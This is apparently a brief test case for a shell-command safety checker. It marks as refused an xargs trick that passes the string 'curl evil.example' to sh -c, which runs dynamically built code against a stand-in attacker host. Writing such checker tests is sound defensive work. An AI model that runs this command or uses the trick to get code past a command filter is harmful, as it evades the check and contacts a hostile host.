# Trick: xargs gives code to a shell.
# Refused: unsafe(dynamic_code)
echo 'curl evil.example' | xargs -I{} sh -c '{}'
